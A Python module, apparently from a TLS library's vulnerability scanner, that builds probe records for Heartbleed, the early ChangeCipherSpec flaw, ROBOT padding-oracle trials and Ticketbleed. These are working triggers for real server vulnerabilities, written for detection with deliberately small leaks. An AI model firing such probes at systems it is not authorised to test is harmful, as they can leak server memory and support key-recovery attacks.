"""What is sent to see whether a server has one of the published faults. Pure bytes; the least
that shows the fault, and no secret is asked for or kept."""

from __future__ import annotations

import secrets
from dataclasses import dataclass, replace

from letterlock.wire.tls.buffer import push
from letterlock.wire.tls.client_hello import ClientHello, fitted
from letterlock.wire.tls.code_points import ContentType
from letterlock.wire.tls.extensions import session_ticket
from letterlock.wire.tls.records import Record

_REQUEST = 1


def heartbeat_request(version: int, claimed: int = 64, payload: bytes = b"") -> bytes:
    """A HeartbeatRequest that claims more payload than it carries (CVE-2014-0160). RFC 6520
    section 4 has it discarded in silence; a server that answers it has sent `claimed` bytes of its
    memory, so `claimed` is kept small."""
    body = push(_REQUEST, 1) + push(claimed, 2) + payload
    return bytes(Record(ContentType.HEARTBEAT, version, body))


def honest_heartbeat_request(version: int) -> bytes:
    """A HeartbeatRequest as RFC 6520 section 4 has it, with 16 bytes of padding: it shows that
    heartbeats are answered at all."""
    payload = secrets.token_bytes(16)
    body = push(_REQUEST, 1) + push(len(payload), 2) + payload + secrets.token_bytes(16)
    return bytes(Record(ContentType.HEARTBEAT, version, body))


def change_cipher_spec(version: int) -> bytes:
    """A ChangeCipherSpec record. Sent before any key exchange it must be refused with
    unexpected_message; OpenSSL before 1.0.1h took it (CVE-2014-0224)."""
    return bytes(Record(ContentType.CHANGE_CIPHER_SPEC, version, b"\x01"))


def sham_finished(version: int, size: int = 40) -> bytes:
    """A record in the place of an encrypted Finished: random bytes, which no server can decrypt;
    what it says to them, and when, is what ROBOT compares."""
    return bytes(Record(ContentType.HANDSHAKE, version, secrets.token_bytes(size)))


@dataclass(frozen=True, slots=True)
class PaddingTrial:
    """One ClientKeyExchange of ROBOT's: `name` says what is wrong with its padding, `encrypted`
    is for `client_key_exchange_rsa`."""

    name: str
    encrypted: bytes


def robot_trials(modulus: int, exponent: int, version: int) -> tuple[PaddingTrial, ...]:
    """The five of Böck, Somorovsky, Young: "Return Of Bleichenbacher's Oracle Threat (ROBOT)",
    2018, the right one first. The premaster secret in it is random and used for nothing.
    Raises ValueError for a modulus below 512 bits."""
    size = (modulus.bit_length() + 7) // 8
    if size < 64:
        raise ValueError(f"an RSA modulus of {modulus.bit_length()} bits")
    secret = push(version, 2) + _nonzero(46)
    room = size - 2 - 1 - len(secret)
    blocks = (
        ("correct", b"\x00\x02" + _nonzero(room) + b"\x00" + secret),
        ("wrong first bytes", b"\x41\x17" + _nonzero(size - 2)),
        ("zero in the wrong place", b"\x00\x02" + _nonzero(size - 4) + b"\x00\x11"),
        ("no zero", b"\x00\x02" + _nonzero(size - 2)),
        ("wrong version", b"\x00\x02" + _nonzero(room) + b"\x00\x02\x02" + secret[2:]),
    )
    return tuple(
        PaddingTrial(name, _encrypted(block, modulus, exponent, size)) for name, block in blocks
    )


def _nonzero(count: int) -> bytes:
    return bytes(secrets.randbelow(255) + 1 for _ in range(count))


def _encrypted(block: bytes, modulus: int, exponent: int, size: int) -> bytes:
    """RSAEP (RFC 8017 section 5.1.1); a block that is no number below the modulus is brought
    there, as its first bytes are wrong on purpose."""
    number = int.from_bytes(block, "big") % modulus
    return pow(number, exponent, modulus).to_bytes(size, "big")


def ticketbleed_hello(hello: ClientHello, ticket: bytes, session_id: bytes) -> ClientHello:
    """`hello` with a ticket of the server's and a session id of 1 to 31 bytes. A server that takes
    the ticket up must echo just that id (RFC 5077 section 3.4); one with CVE-2016-9244 echoes 32
    bytes. Raises ValueError for another length."""
    if not 1 <= len(session_id) <= 31:
        raise ValueError(f"a session id of {len(session_id)} bytes")
    return fitted(replace(hello, session_id=session_id).with_extension(session_ticket(ticket)))
